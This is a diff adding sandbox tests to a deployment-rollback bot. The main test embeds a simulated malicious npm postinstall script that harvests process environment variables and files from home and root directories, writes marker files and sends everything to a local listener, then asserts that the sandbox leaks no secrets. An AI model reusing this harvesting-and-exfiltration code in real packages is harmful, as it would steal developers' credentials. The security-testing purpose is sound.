@@ -226,3 +226,98 @@ def test_without_a_sandbox_every_plan_and_the_app_home_say_so(make_fast_engine, 
     sandboxed = make_fast_engine(ROLLBACK_SANDBOX="auto")
     if sandboxed.shared.sandbox is not None:  # in a sandbox, the cards say nothing about it
         assert not [w for w in sandboxed.plan("prod", "previous").warnings if "unsandboxed" in w]
+
+
+EVIL_JS = r'''
+// what a compromised package's postinstall does: npm runs it (through sh) during `npm ci`
+const fs = require("fs"), net = require("net"), os = require("os"), path = require("path");
+const found = {environ: {}, files: {}, wrote: [], procs: fs.readdirSync("/proc").filter(p => /^\d+$/.test(p))};
+for (const p of found.procs) {
+  try { found.environ[p] = fs.readFileSync(`/proc/${p}/environ`, "utf8"); } catch (e) { found.environ[p] = String(e); }
+}
+const walk = (dir, depth) => {
+  if (depth > 4) return;
+  let names = [];
+  try { names = fs.readdirSync(dir); } catch (e) { return; }
+  for (const name of names.slice(0, 200)) {
+    const full = path.join(dir, name);
+    let st; try { st = fs.lstatSync(full); } catch (e) { continue; }
+    if (st.isDirectory() && !["node_modules", "lib", "share", "include"].includes(name)) walk(full, depth + 1);
+    else if (st.isFile()) { try { found.files[full] = fs.readFileSync(full, "utf8").slice(0, 2000); } catch (e) {} }
+  }
+};
+for (const root of [os.homedir(), "/root", "/home", "/tmp", path.resolve("../../..")]) walk(root, 0);
+for (const target of process.argv.slice(3)) {
+  try {
+    fs.mkdirSync(path.dirname(target), {recursive: true}); fs.writeFileSync(target, "pwned"); found.wrote.push(target);
+  }
+  catch (e) { found.wrote.push(`refused ${target}: ${e.code}`); }
+}
+const s = net.connect(Number(process.argv[2]), "127.0.0.1", () => s.end(JSON.stringify(found)));
+'''
+EMPTY_LOCK = json.dumps({"name": "hello-service", "version": "1.0.0", "lockfileVersion": 3, "requires": True,
+                         "packages": {"": {"name": "hello-service", "version": "1.0.0"}}})
+
+
+@pytest.mark.e2e
+@needs_bwrap
+def test_a_real_npm_postinstall_finds_no_secret(aws_env, s3, tmp_path, monkeypatch):
+    """The same attack as an npm package ships it: `npm ci` (the bot's own installer for a package-lock.json)
+    runs the package's postinstall script, written in JavaScript."""
+    if shutil.which("npm") is None:
+        pytest.skip("npm is not installed; ./scripts/test installs it (apt-get install nodejs npm)")
+    from tests.conftest import engine_factory
+    from tests.support.fast_service import DEPLOY_COMMAND, deploy
+
+    listener = Listener()
+    data = tmp_path / "data"
+    work = ServiceRepo(tmp_path / "svc" / "work")
+    package_json = json.dumps({"name": "hello-service", "version": "1.0.0", "scripts": {
+        "postinstall": f"node evil.js {listener.port} {data}/planted.js /usr/local/bin/planted.js"}})
+    commits = {"v1": work.commit("Hello v1", {"serverless.yml": SERVERLESS_YML, "handler.js": handler("v1"),
+                                              "package.json": package_json, "package-lock.json": EMPTY_LOCK,
+                                              "evil.js": EVIL_JS})}
+    commits["v2"] = work.commit("Make hello say v2", {"handler.js": handler("v2")})
+    origin = tmp_path / "svc" / "origin.git"
+    git.Repo.clone_from(work.path, origin, bare=True).close()
+    packages = {n: fast_package(tmp_path / "svc" / f"pkg-{n}", n) for n in commits}
+    make, engines = engine_factory(aws_env, tmp_path, origin, ROLLBACK_DEPLOY_COMMAND=DEPLOY_COMMAND,
+                                   ROLLBACK_SANDBOX="required", SLACK_SIGNING_SECRET="signing-secret-abc123")
+    monkeypatch.setenv("SLACK_BOT_TOKEN", SLACK_TOKEN)
+    monkeypatch.setenv("SLACK_SIGNING_SECRET", "signing-secret-abc123")
+    try:
+        engine = make(data_dir=data)
+        for name in ("v1", "v2"):
+            engine.artifacts.publish("prod", commits[name], packages[name], build_id=f"b-{name}")
+            deploy(packages[name])
+            engine.artifacts.mark_deployed("prod", commits[name], f"b-{name}", by="ci")
+        job = engine.jobs.wait(engine.jobs.start(engine.plan("prod", "b-v1"), "U-ANA", "U-BO"), timeout=300)
+    finally:
+        for e in engines:
+            e.jobs.shutdown()
+    assert job.state == "succeeded", job.reason
+    assert "$ npm ci" in "\n".join(engine.store.output(job.id))
+    assert len(listener.got) == 1, "npm ran the postinstall and it reached the network"
+    report = listener.got[0]
+    seen = json.dumps(report)
+    for secret in (SLACK_TOKEN, "signing-secret-abc123", aws_env["AWS_SECRET_ACCESS_KEY"]):
+        assert secret not in seen, f"the postinstall read {secret!r}"
+    assert not any("AWS_SECRET_ACCESS_KEY" in env for env in report["environ"].values())  # install gets no AWS
+    assert len(report["procs"]) <= 6, report["procs"]  # bwrap, npm, sh, node: the job's own, nothing else
+    assert "refused /usr/local/bin/planted.js: EROFS" in report["wrote"]  # the system is read-only to it
+    assert not (data / "planted.js").exists() and not Path("/usr/local/bin/planted.js").exists()
+
+
+@needs_bwrap
+def test_the_deploys_schema_cache_is_kept_per_account_and_nowhere_else(make_fast_engine, fast_prod):
+    """The Serverless CLI's ~/.serverless/artifacts survives a sandboxed deploy (it saves ~2 s a deploy), in the
+    folder of the job's own AWS account: what one account's job writes there, no other account's job runs."""
+    engine = make_fast_engine(ROLLBACK_SANDBOX="required", SLS_TEST_WRITE_ARTIFACT="validator-1234.js")
+    job = engine.jobs.wait(engine.jobs.start(engine.plan("prod", "previous"), "U-ANA", "U-BO"), timeout=120)
+    assert job.state == "succeeded", job.reason
+    root = engine.settings.data_dir / "plugin-cache"
+    own = engine.jobs.plugin_cache.for_account("").root
+    assert [p.relative_to(root) for p in root.rglob("validator-1234.js")] == [
+        (own / ".serverless-artifacts" / "validator-1234.js").relative_to(root)]
+    assert engine.jobs.plugin_cache.for_account("account 222222222222").root != own
+    assert not (Path.home() / ".serverless" / "artifacts" / "validator-1234.js").exists()
